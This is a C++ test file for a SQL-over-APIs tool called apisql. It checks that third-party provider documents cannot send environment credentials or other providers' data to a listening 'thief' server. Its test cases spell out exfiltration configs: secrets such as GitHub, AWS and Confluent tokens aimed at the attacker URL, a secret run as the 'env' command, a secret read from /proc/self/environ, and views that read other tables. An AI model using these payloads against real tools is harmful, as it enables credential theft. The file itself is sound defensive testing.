// Documents that somebody else has written, each trying to take a credential of the environment or
// rows of another provider. A server of theirs listens; nothing of that may reach it.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <map>
#include <memory>

#include "sandbox/sandbox.h"
#include "src/base/base64.h"
#include "tests/programs/run_program.h"
#include "tests/support/script_server.h"

namespace apisql {
namespace {

using testing::AllOf;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

// What a folder with documents holds. "{thief}" in them is the URL of the listening server, and
// "{host}" its host and port.
struct Shape {
  const char* name;
  const char* owner;     // The provider that its table belongs to.
  const char* provider;  // provider.yaml from its servers on; empty: there is none.
  const char* table;     // From `description` on.
  const char* sql;
};

constexpr const char* kThings =
    "key: [id]\ncolumns: {id: {type: text, path: /id}}\n"
    "methods: {list_things: {verb: select, get: /things}}\n";
constexpr const char* kSelect = "SELECT id FROM {owner}.a.things";

const Shape kShapes[] = {
    {"ABearerTokenOfConfluent", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: "
     "CONFLUENT_CLOUD_API_SECRET}}}}",
     kThings, kSelect},
    {"ANameThatBeginsLikeTheVariable", "confluent_cloud",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: "
     "CONFLUENT_CLOUD_API_SECRET}}}}",
     kThings, kSelect},
    {"ANameThatBeginsLikeRockset", "rockset_api",
     "{main: {url: \"{thief}\", auth: {scheme: header, name: Authorization, prefix: ApiKey, "
     "secrets: {key: ROCKSET_API_KEY}}}}",
     kThings, kSelect},
    {"ATokenOfGithub", "github",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: GITHUB_TOKEN}}}}", kThings,
     kSelect},
    {"AKeyOfAws", "aws",
     "{main: {url: \"{thief}\", auth: {scheme: basic, secrets: {username: AWS_ACCESS_KEY_ID, "
     "password: AWS_SECRET_ACCESS_KEY}}}}",
     kThings, kSelect},
    {"AVariableOfItsOwnName", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: EVIL_TOKEN}}}}", kThings,
     kSelect},
    {"AKeyInTheQuery", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: query, name: key, secrets: {key: "
     "ROCKSET_API_KEY}}}}",
     kThings, kSelect},
    {"AHeaderOfItsOwn", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: header, name: X-Harmless, secrets: {key: "
     "DATABASE_URL}}}}",
     kThings, kSelect},
    {"AServerOfTokens", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: oauth2_client_credentials, token_url: "
     "\"{thief}/token\", secrets: {client_id: CONFLUENT_CLOUD_API_KEY, client_secret: "
     "CONFLUENT_CLOUD_API_SECRET}}}}",
     kThings, kSelect},
    {"AServerOfTokensBesideAnother", "evil",
     "{main: {url: \"https://api.evil.example\", auth: {scheme: token_exchange, token_url: "
     "\"{thief}/token\", secrets: {subject_token: GITHUB_TOKEN}}}}",
     kThings, kSelect},
    {"AnotherServerOfItsOwn", "evil",
     "{main: {url: \"https://api.evil.example\"}, other: {url: \"{thief}\", auth: {scheme: bearer, "
     "secrets: {token: GITHUB_TOKEN}}}}",
     "server: other\nkey: [id]\ncolumns: {id: {type: text, path: /id}}\n"
     "methods: {list_things: {verb: select, get: /things}}\n",
     kSelect},
    {"ARegion", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: GITHUB_TOKEN}}}}\nregions: "
     "[main]",
     kThings, kSelect},
    {"AMethodThatWrites", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: GITHUB_TOKEN}}}}",
     "key: [id]\ncolumns: {id: {type: text, path: /id, write: [create]}}\n"
     "methods: {make_thing: {verb: insert, post: /things, returns: /}}\n",
     "INSERT INTO {owner}.a.things (id) VALUES ('x')"},
    {"AMethodThatActs", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: GITHUB_TOKEN}}}}",
     "key: [id]\ncolumns: {id: {type: text, path: /id}}\n"
     "methods: {list_things: {verb: select, get: /things}, act: {verb: exec, post: /act}}\n",
     "EXEC {owner}.a.things.act"},
    {"ASecretThatIsACommand", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: {command: env}}}}}",
     kThings, kSelect},
    {"ASecretThatIsAFile", "evil",
     "{main: {url: \"{thief}\", auth: {scheme: bearer, secrets: {token: {file: "
     "/proc/self/environ}}}}}",
     kThings, kSelect},
    {"AVariableWithinAUrl", "evil", "{main: {url: \"{thief}/$GITHUB_TOKEN\"}}", kThings, kSelect},
    {"ConfluentsOwnName", "confluent", "{main: {url: \"{thief}\"}}", kThings, kSelect},
    {"ATableOfConfluentAtAnotherHost", "confluent", "",
     "key: [id]\ncolumns: {id: {type: text, path: /id}}\n"
     "methods: {list_things: {verb: select, get: \"@{host}/things\"}}\n",
     kSelect},
    {"ATableOfConfluentByPost", "confluent", "",
     "key: [id]\ncolumns: {id: {type: text, path: /id}}\n"
     "methods: {list_things: {verb: select, post: /iam/v2/api-keys, constants: {a: b}}}\n",
     kSelect},
    {"ValuesOfConfluentsTable", "evil", "{main: {url: \"{thief}\"}}",
     "key: [id]\ncolumns: {id: {type: text, path: /id}, email: {type: text, source: parameter}}\n"
     "methods: {list_things: {verb: select, get: /things, filters: {email: {required: true, from: "
     "{table: confluent.iam.users, column: email}}}}}\n",
     kSelect},
    {"ValuesOfConfluentsTableInAPath", "evil", "{main: {url: \"{thief}\"}}",
     "key: [id]\ncolumns: {id: {type: text, path: /id}, key_id: {type: text, source: parameter}}\n"
     "methods: {list_things: {verb: select, get: \"/{key_id}\", path_parameters: {key_id: {from: "
     "{table: confluent.iam.api_keys, column: id}}}}}\n",
     kSelect},
};

// Credentials of an environment, by variable.
using Environment = std::map<std::string, std::string>;

class HostileDocuments : public testing::Test {
 protected:
  HostileDocuments() : thief_(AlwaysOk("{\"data\":[],\"access_token\":\"t\"}")) {
    SandboxOptions options;
    options.keys = 20;
    sandbox_ = *Sandbox::Start(options);
    const SandboxAccess& access = sandbox_->access();
    environment_ = {{"CONFLUENT_CLOUD_API_KEY", access.confluent_key},
                    {"CONFLUENT_CLOUD_API_SECRET", access.confluent_secret},
                    {"ROCKSET_API_KEY", access.rockset_key},
                    {"GITHUB_TOKEN", "ghp_aValueToBeTaken"},
                    {"AWS_ACCESS_KEY_ID", "AKIAaValueToBeTaken"},
                    {"AWS_SECRET_ACCESS_KEY", "aws/aValueToBeTaken"},
                    {"DATABASE_URL", "postgres://u:aValueToBeTaken@db"},
                    {"EVIL_TOKEN", "evil/aValueToBeTaken"}};
  }

  void WriteDocuments(const Shape& shape) {
    const std::string owner = shape.owner;
    if (*shape.provider != '\0') {
      Write("provider.yaml", "provider: " + owner + "\ndescription: Harmless.\nservers: " +
                                 shape.provider + "\nrows: /data\nerrors: [{message: /message}]\n");
    }
    Write("a.things.yaml", "table: " + owner + ".a.things\ndescription: Harmless.\n" + shape.table);
  }

  void Write(const std::string& name, const std::string& text) {
    home_.Write("documents/" + name, Filled(text, ""));
  }

  std::string Filled(std::string text, const std::string& owner) const {
    const std::pair<std::string, std::string> places[] = {
        {"{thief}", thief_.url()},
        {"{host}", "127.0.0.1:" + std::to_string(thief_.port())},
        {"{owner}", owner}};
    for (const auto& [place, value] : places) {
      for (size_t at = 0; (at = text.find(place)) != std::string::npos;) {
        text.replace(at, place.size(), value);
      }
    }
    return text;
  }

  ProgramResult Run(const std::vector<std::string>& options, const std::string& sql) {
    const SandboxAccess& access = sandbox_->access();
    std::vector<std::string> arguments = {Built("apisql"),
                                          "--base-url",
                                          "confluent=" + access.confluent_url,
                                          "--base-url",
                                          "rockset=" + access.rockset_url,
                                          "--provider-dir",
                                          (home_.folder() / "documents").string()};
    arguments.insert(arguments.end(), options.begin(), options.end());
    arguments.push_back(sql);
    return home_.Run(arguments, environment_);
  }

  // The variables whose values are in the text, as they are or as a part of Basic credentials.
  std::vector<std::string> TakenBy(const std::string& text) const {
    std::vector<std::string> taken;
    for (const auto& [variable, value] : environment_) {
      const bool plain = text.find(value) != std::string::npos;
      // Three ways in which it may stand within the groups of Base64.
      bool encoded = false;
      for (const std::string before : {"", "x", "xx"}) {
        const std::string whole = EncodeBase64(before + value);
        encoded |= text.find(whole.substr(4, whole.size() - 8)) != std::string::npos;
      }
      if (plain || encoded) taken.push_back(variable);
    }
    return taken;
  }

  std::string Received() const {
    std::string all;
    for (const std::string& request : thief_.requests()) all += request + "\n";
    return all;
  }

  TestHome home_;
  ScriptServer thief_;
  std::unique_ptr<Sandbox> sandbox_;
  Environment environment_;
};

class HostileDocumentsTest : public HostileDocuments, public testing::WithParamInterface<Shape> {};

TEST_P(HostileDocumentsTest, TakesNothing) {
  WriteDocuments(GetParam());
  const std::string sql = Filled(GetParam().sql, GetParam().owner);
  for (const std::vector<std::string>& options :
       std::vector<std::vector<std::string>>{{}, {"--read-only"}, {"--allow-partial"}}) {
    const ProgramResult result = Run(options, sql);
    EXPECT_NE(result.exit_code, 0);
    EXPECT_THAT(result.err, Not(IsEmpty()));
    EXPECT_THAT(TakenBy(result.out + result.err), IsEmpty());
  }
  EXPECT_EQ(thief_.connections(), 0) << Received();
  for (const SandboxRequest& request : sandbox_->Requests()) {
    ADD_FAILURE() << "asked " << request.method << " " << request.target;
  }
}

// A server that is granted is granted no credential, and no rows of others.
TEST_P(HostileDocumentsTest, TakesNothingWhereItsServerIsGranted) {
  const Shape& shape = GetParam();
  if (std::string_view(shape.owner) == "confluent") GTEST_SKIP() << "it has no server of its own";
  WriteDocuments(shape);
  const ProgramResult result = Run({"--base-url", std::string(shape.owner) + "=" + thief_.url()},
                                   Filled(shape.sql, shape.owner));
  EXPECT_THAT(TakenBy(result.out + result.err + Received()), IsEmpty());
  EXPECT_EQ(thief_.connections(), 0) << Received();
  EXPECT_THAT(sandbox_->Requests(), IsEmpty());
}

INSTANTIATE_TEST_SUITE_P(AllShapes, HostileDocumentsTest, testing::ValuesIn(kShapes),
                         [](const auto& shape) { return std::string(shape.param.name); });

class GrantedDocumentsTest : public HostileDocuments {};

// It may use its grant, and nothing beside it.
TEST_F(GrantedDocumentsTest, WhatIsGrantedIsSent) {
  WriteDocuments(kShapes[5]);
  const ProgramResult result =
      Run({"--base-url", "evil=" + thief_.url(), "--secret", "evil.token=EVIL_TOKEN"},
          "SELECT id FROM evil.a.things");
  EXPECT_EQ(result.exit_code, 0) << result.err;
  EXPECT_THAT(TakenBy(Received()), ElementsAre("EVIL_TOKEN"));
}

TEST_F(GrantedDocumentsTest, AViewReadsOthersWhereThatIsGranted) {
  WriteDocuments({"", "evil", "{main: {url: \"{thief}\"}}",
                  "key: [id]\ncolumns: {id: {type: text, path: /id}, email: {type: text, source: "
                  "parameter}}\nmethods: {list_things: {verb: select, get: /things, filters: "
                  "{email: {required: true}}}}\n",
                  ""});
  Write("a.seen.yaml",
        "table: evil.a.seen\ndescription: Harmless.\nview: SELECT t.id FROM confluent.iam.users u "
        "JOIN evil.a.things t ON t.email = u.email\n");
  Write("a.log.yaml",
        "table: evil.a.log\ndescription: Harmless.\nview: SELECT t.id FROM apisql.requests r JOIN "
        "evil.a.things t ON t.email = r.url\n");
  Write("a.schema.yaml",
        "table: evil.a.schema\ndescription: Harmless.\nview: SELECT t.id FROM sqlite_schema s JOIN "
        "evil.a.things t ON t.email = s.sql\n");
  const std::vector<std::string> server = {"--base-url", "evil=" + thief_.url()};
  const std::pair<const char*, const char*> kViews[] = {
      {"seen", "reads: [confluent.iam.users]"},
      {"log", "reads: [apisql.requests]"},
      {"schema", "reads: [sqlite_master]"},
  };
  for (const auto& [view, line] : kViews) {
    const ProgramResult result =
        Run(server, std::string("CREATE TABLE t(a); SELECT * FROM evil.a.") + view);
    EXPECT_EQ(result.exit_code, 1) << view;
    EXPECT_THAT(result.err, HasSubstr(line));
  }
  EXPECT_EQ(thief_.connections(), 0) << Received();
  EXPECT_THAT(sandbox_->Requests(), IsEmpty());
  home_.Write("config.yaml", "providers: {evil: {reads: [confluent.iam.users]}}\n");
  const ProgramResult granted = Run(
      {"--base-url", "evil=" + thief_.url(), "--config", (home_.folder() / "config.yaml").string()},
      "SELECT * FROM evil.a.seen");
  EXPECT_EQ(granted.exit_code, 0) << granted.err;
  EXPECT_GT(thief_.connections(), 0);
}

TEST_F(GrantedDocumentsTest, ReadOnlySendsNoPostThatADocumentCallsARead) {
  WriteDocuments({"", "confluent", "",
                  "key: [id]\ncolumns: {id: {type: text, path: /id}}\n"
                  "methods: {list_things: {verb: select, post: /iam/v2/api-keys, rows: /data}}\n",
                  ""});
  const std::string config = "providers: {confluent: {tables: [confluent.a.things]";
  home_.Write("config.yaml", config + "}}\n");
  home_.Write("posts.yaml", config + ", post_reads: on}}\n");
  const auto run = [&](const char* file, const std::string& sql) {
    return Run({"--read-only", "--config", (home_.folder() / file).string()}, sql);
  };
  const ProgramResult refused = run("config.yaml", "SELECT id FROM confluent.a.things");
  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_THAT(refused.err,
              AllOf(HasSubstr("requests are GET and HEAD alone, and list_things is a POST"),
                    HasSubstr("  confluent:\n    post_reads: on")));
  EXPECT_THAT(sandbox_->Requests(), IsEmpty());
  run("posts.yaml", "SELECT id FROM confluent.a.things");
  ASSERT_EQ(sandbox_->Requests().size(), 1U);
  EXPECT_EQ(sandbox_->Requests()[0].method, "POST");
  // A write is none the less.
  EXPECT_EQ(run("posts.yaml", "DELETE FROM confluent.iam.api_keys WHERE id = 'x'").exit_code, 1);
  EXPECT_EQ(sandbox_->Requests().size(), 1U);
}

TEST_F(GrantedDocumentsTest, ABuiltInTableIsReplacedByNameAlone) {
  home_.Write("documents/users.yaml",
              "table: confluent.iam.users\ndescription: Mine.\nkey: [id]\ncolumns: {id: {type: "
              "text, path: /id}}\nmethods: {list: {verb: select, get: /iam/v2/users, rows: /data}, "
              "remove: {verb: delete, delete: \"/iam/v2/service-accounts/{id}\"}}\n");
  const ProgramResult refused = Run({}, "DELETE FROM confluent.iam.users WHERE id = 'sa-1'");
  EXPECT_EQ(refused.exit_code, 2);
  EXPECT_THAT(refused.err, HasSubstr("there is a table confluent.iam.users already"));
  const ProgramResult other =
      Run({"--replace", "confluent.iam.api_keys"}, "SELECT count(*) FROM confluent.iam.users");
  EXPECT_EQ(other.exit_code, 2);
  const ProgramResult misspelt = Run({"--replace", "confluent.iam.user"}, "SELECT 1");
  EXPECT_THAT(misspelt.err, HasSubstr("did you mean confluent.iam.users"));
  EXPECT_THAT(sandbox_->Requests(), IsEmpty());
  const ProgramResult replaced =
      Run({"--replace", "confluent.iam.users"}, "SELECT count(*) > 0 FROM confluent.iam.users");
  EXPECT_EQ(replaced.exit_code, 0) << replaced.err;
}

}  // namespace
}  // namespace apisql
